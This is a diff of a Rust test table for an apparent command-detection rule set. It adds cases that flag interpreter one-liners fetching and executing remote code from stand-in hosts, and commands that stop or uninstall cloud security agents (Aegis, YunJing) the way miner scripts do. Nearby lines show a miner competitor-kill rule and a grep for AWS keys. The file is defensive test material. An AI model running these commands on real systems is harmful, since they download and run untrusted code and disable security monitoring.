@@ -936,6 +936,53 @@ fn exec_table() -> Vec<Case> {
             vec!["exec-miner-competitor-kill"],
         ),
         user(vec!["pkill", "-f", "gunicorn"], vec![]),
+        // A program fetched and executed in-process by an interpreter one-liner.
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import urllib.request;exec(urllib.request.urlopen('http://10.0.0.1/x.py').read())",
+            ],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import requests; exec(requests.get('https://h/p').text)",
+            ],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec!["perl", "-MLWP::Simple", "-e", "eval(get('http://h/p'))"],
+            vec!["exec-interpreter-downloaded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import json,urllib.request;print(json.load(urllib.request.urlopen('http://h/v')))",
+            ],
+            vec![],
+        ),
+        // Cloud host agents removed (Alibaba's Aegis, Tencent's YunJing), as miner scripts do.
+        user(
+            vec!["pkill", "-f", "AliYunDun"],
+            vec!["evasion-disable-security"],
+        ),
+        user(
+            vec!["systemctl", "stop", "aegis"],
+            vec!["evasion-disable-security"],
+        ),
+        user(
+            vec!["/bin/sh", "/usr/local/qcloud/YunJing/uninst.sh"],
+            vec!["evasion-disable-security"],
+        ),
+        user(
+            vec!["bash", "/usr/local/aegis/uninstall.sh"],
+            vec!["evasion-disable-security"],
+        ),
+        user(vec!["bash", "/usr/local/aegis/check.sh"], vec![]),
         user(vec!["killall", "firefox"], vec![]),
         user(
             vec!["grep", "-r", "AKIA", "/root"],
